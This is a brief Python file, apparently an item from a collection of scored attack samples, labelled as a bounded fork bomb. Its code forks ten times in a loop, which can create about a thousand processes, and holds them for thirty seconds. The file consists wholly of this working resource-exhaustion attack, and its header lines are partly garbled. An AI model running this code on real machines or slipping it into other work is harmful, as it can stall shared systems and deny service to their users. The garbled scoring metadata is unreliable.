# attack: a fork bomb (bounded, for the sake of a machine without walls)
# verdict: score or failed: .
# score: 6

# %% attack after why
import os
import time

for _ in range(10):
    try:
        os.fork()
    except OSError:
        pass
time.sleep(30)
